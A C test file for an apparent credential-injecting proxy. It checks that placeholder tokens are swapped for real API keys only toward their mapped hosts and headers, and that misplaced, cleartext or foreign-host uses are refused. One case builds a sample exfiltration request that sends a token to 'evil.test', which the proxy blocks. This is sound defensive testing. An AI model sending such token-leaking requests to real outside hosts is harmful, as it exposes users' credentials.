@@ -1,0 +1,228 @@
+/* Credential injection rules, through the real parser, policy and rewriter. */
+#include <stdlib.h>
+
+#include "rewrite.h"
+#include "tap.h"
+
+#define OPENAI_TOK "keyhole-openai-0123456789abcdef0123456789abcdef"
+#define ANTH_TOK "keyhole-anthropic-fedcba9876543210fedcba9876543210"
+#define GROQ_TOK "keyhole-groq-11112222333344445555666677778888"
+
+static struct kh_policy *policy;
+static struct kh_secrets secrets;
+static struct kh_http_header hdrs[64];
+static char outbuf[8192];
+static struct kh_rw_result res;
+
+static const char *mappings_json =
+	"{\"version\":1,\"tokens\":["
+	"{\"proxy_token\":\"" OPENAI_TOK "\",\"env_name\":\"OPENAI_API_KEY\","
+	"\"upstream_hosts\":[\"api.openai.com\"],\"match_headers\":[\"Authorization\"]},"
+	"{\"proxy_token\":\"" ANTH_TOK "\",\"env_name\":\"ANTHROPIC_API_KEY\","
+	"\"upstream_hosts\":[\"api.anthropic.com\"],\"match_headers\":[\"x-api-key\",\"Authorization\"]},"
+	"{\"proxy_token\":\"" GROQ_TOK "\",\"env_name\":\"GROQ_API_KEY\","
+	"\"upstream_hosts\":[\"api.groq.com\"]}]}";
+
+static void setup(void)
+{
+	static const char *names[] = { "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GROQ_API_KEY" };
+	static char *clear[] = { "plain.test" };
+	struct kh_config cfg;
+	struct kh_mappings m;
+	struct kh_err err;
+
+	setenv("OPENAI_API_KEY", "sk-REAL-openai", 1);
+	setenv("ANTHROPIC_API_KEY", "sk-ant-REAL", 1);
+	unsetenv("GROQ_API_KEY"); /* mapped but not loaded */
+	if (kh_secrets_load_env(&secrets, names, 3, &err) != 0)
+		abort();
+	memset(&cfg, 0, sizeof cfg);
+	cfg.cleartext_credential_hosts = clear;
+	cfg.n_cleartext_credential_hosts = 1;
+	if (kh_mappings_parse(mappings_json, strlen(mappings_json), &m, &err) != 0) {
+		printf("# %s\n", err.msg);
+		abort();
+	}
+	policy = kh_policy_build(&cfg, &m, &secrets, &err);
+	kh_mappings_free(&m);
+	if (policy == NULL)
+		abort();
+}
+
+/* Parses raw, rewrites it toward host; returns 0/-1 and leaves the output in outbuf. */
+static int run(const char *raw, const char *host, uint16_t port, bool tls, bool absolute,
+	       const char *target)
+{
+	struct kh_http_limits lim = { 16384, 64 };
+	struct kh_http_error herr;
+	struct kh_http_head h = { .headers = hdrs };
+	struct kh_buf out;
+	size_t scan = 0;
+	ssize_t n = kh_http_scan_head((const uint8_t *)raw, strlen(raw), &scan, 16384, &herr);
+	struct kh_rw_ctx ctx = { policy, host, port, tls ? 443 : 80, tls, absolute, { 0, 0 } };
+	int rc;
+
+	if (n <= 0 || kh_http_parse_request((const uint8_t *)raw, (size_t)n, &lim, &h, &herr) != 0)
+		return -2;
+	ctx.target = target ? kh_slice_cstr(target) : h.target;
+	kh_buf_init(&out, sizeof outbuf - 1);
+	rc = kh_rewrite_request(&ctx, &h, &out, &res);
+	if (kh_buf_len(&out) > 0)
+		memcpy(outbuf, kh_buf_data(&out), kh_buf_len(&out));
+	outbuf[kh_buf_len(&out)] = '\0';
+	kh_buf_free(&out);
+	return rc;
+}
+
+static void bearer_swapped_toward_own_host(void)
+{
+	CHECK_INT(run("POST /v1/chat HTTP/1.1\r\nHost: api.openai.com\r\n"
+		      "Authorization: Bearer " OPENAI_TOK "\r\nContent-Length: 2\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "Authorization: Bearer sk-REAL-openai\r\n") != NULL);
+	CHECK(strstr(outbuf, "keyhole-openai") == NULL);
+	CHECK(strstr(outbuf, "Content-Length: 2\r\n") != NULL);
+	CHECK_INT(res.n_swapped, 1);
+	CHECK_STR(res.swapped[0], "OPENAI_API_KEY");
+}
+
+static void bearer_toward_other_host_refused(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " OPENAI_TOK
+		      "\r\n\r\n", "api.groq.com", 443, true, false, NULL), -1);
+	CHECK_INT(res.status, 403);
+	CHECK_STR(res.reason, "token_host_mismatch");
+	CHECK_INT(strlen(outbuf), 0); /* nothing emitted */
+	CHECK(strstr(res.detail, OPENAI_TOK) == NULL);
+}
+
+static void header_key_swapped(void)
+{
+	CHECK_INT(run("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
+		      "x-api-key: " ANTH_TOK "\r\n\r\n", "api.anthropic.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "x-api-key: sk-ant-REAL\r\n") != NULL);
+	/* the OpenAI token is Authorization-only: in x-api-key it is misplaced */
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nx-api-key: " OPENAI_TOK "\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL), -1);
+	CHECK_STR(res.reason, "token_misplaced");
+}
+
+static void token_anywhere_else_refused(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Note: see " OPENAI_TOK
+		      " here\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+	CHECK_STR(res.reason, "token_misplaced");
+	CHECK_INT(run("GET /v1/x?key=" OPENAI_TOK " HTTP/1.1\r\nHost: api.openai.com\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL), -1);
+	CHECK(res.token_in_target);
+	/* toward a foreign host the same leak is an exfiltration attempt */
+	CHECK_INT(run("GET /?k=" OPENAI_TOK " HTTP/1.1\r\nHost: evil.test\r\n\r\n", "evil.test", 443,
+		      true, false, NULL), -1);
+	CHECK_STR(res.reason, "token_host_mismatch");
+	/* a token with a changed prefix still carries the random part */
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer x"
+		      OPENAI_TOK "\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+}
+
+static void unknown_bearer_passes_through(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer sk-user-own"
+		      "\r\n\r\n", "api.openai.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "Authorization: Bearer sk-user-own\r\n") != NULL);
+	CHECK_INT(res.n_swapped, 0);
+}
+
+static void cleartext_rules(void)
+{
+	CHECK_INT(run("GET http://api.openai.com/v1 HTTP/1.1\r\nHost: api.openai.com\r\n"
+		      "Authorization: Bearer " OPENAI_TOK "\r\n\r\n", "api.openai.com", 80, false,
+		      true, "/v1"), -1);
+	CHECK_STR(res.reason, "cleartext_credential");
+}
+
+static void unavailable_secret(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.groq.com\r\nAuthorization: Bearer " GROQ_TOK
+		      "\r\n\r\n", "api.groq.com", 443, true, false, NULL), -1);
+	CHECK_INT(res.status, 503);
+	CHECK_STR(res.reason, "credential_unavailable");
+}
+
+static void hop_by_hop_removed(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: keep-alive, X-Drop\r\n"
+		      "X-Drop: 1\r\nKeep-Alive: 5\r\nProxy-Authorization: Basic eA==\r\n"
+		      "Proxy-Connection: keep-alive\r\nTE: trailers\r\nUpgrade: h2c\r\nX-Keep: 2\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "X-Drop") == NULL);
+	CHECK(strstr(outbuf, "Keep-Alive") == NULL);
+	CHECK(strstr(outbuf, "Proxy-") == NULL);
+	CHECK(strstr(outbuf, "Upgrade") == NULL);
+	CHECK(strstr(outbuf, "Connection") == NULL);
+	CHECK(strstr(outbuf, "TE: trailers\r\n") != NULL);
+	CHECK(strstr(outbuf, "X-Keep: 2\r\n") != NULL);
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: close\r\n\r\n",
+		      "api.openai.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "Connection: close\r\n") != NULL);
+	CHECK_INT(run("POST / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Content-Length\r\n"
+		      "Content-Length: 3\r\n\r\n", "api.openai.com", 443, true, false, NULL), -1);
+	CHECK_INT(res.status, 400);
+}
+
+static void websocket_upgrade_kept(void)
+{
+	CHECK_INT(run("GET /ws HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Upgrade\r\n"
+		      "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n", "api.openai.com", 443, true,
+		      false, NULL), 0);
+	CHECK(res.upgrade);
+	CHECK(strstr(outbuf, "Upgrade: websocket\r\n") != NULL);
+	CHECK(strstr(outbuf, "Connection: Upgrade\r\n") != NULL);
+}
+
+static void host_rules(void)
+{
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "api.openai.com", 443, true,
+		      false, NULL), -1);
+	CHECK_STR(res.reason, "host_mismatch");
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: API.OpenAI.com.:8443\r\n\r\n", "api.openai.com", 8443,
+		      true, false, NULL), 0);
+	CHECK_INT(run("GET / HTTP/1.1\r\nHost: api.openai.com:9999\r\n\r\n", "api.openai.com", 8443,
+		      true, false, NULL), -1);
+	/* absolute-form: Host is replaced by the URL's authority, target made origin-form */
+	CHECK_INT(run("GET http://plain.test:8080/p?q HTTP/1.1\r\nHost: other\r\n\r\n", "plain.test",
+		      8080, false, true, "/p?q"), 0);
+	CHECK(strncmp(outbuf, "GET /p?q HTTP/1.1\r\nHost: plain.test:8080\r\n", 42) == 0);
+	CHECK_INT(run("GET / HTTP/1.0\r\n\r\n", "api.openai.com", 443, true, false, NULL), 0);
+	CHECK(strstr(outbuf, "Host: api.openai.com\r\n") != NULL);
+	CHECK(strstr(outbuf, "Connection: close\r\n") != NULL);
+}
+
+static void redaction(void)
+{
+	char out[256];
+
+	kh_policy_redact(policy, KH_SLICE_LIT("/v1/" OPENAI_TOK "/x"), out, sizeof out);
+	CHECK(strstr(out, "0123456789abcdef0123") == NULL);
+	CHECK(strstr(out, "/x") != NULL);
+	kh_policy_redact(policy, KH_SLICE_LIT("/plain/path"), out, sizeof out);
+	CHECK_STR(out, "/plain/path");
+}
+
+int main(void)
+{
+	setup();
+	RUN(bearer_swapped_toward_own_host);
+	RUN(bearer_toward_other_host_refused);
+	RUN(header_key_swapped);
+	RUN(token_anywhere_else_refused);
+	RUN(unknown_bearer_passes_through);
+	RUN(cleartext_rules);
+	RUN(unavailable_secret);
+	RUN(hop_by_hop_removed);
+	RUN(websocket_upgrade_kept);
+	RUN(host_rules);
+	RUN(redaction);
+	kh_policy_unref(policy);
+	kh_secrets_free(&secrets);
+	TAP_DONE();
+}
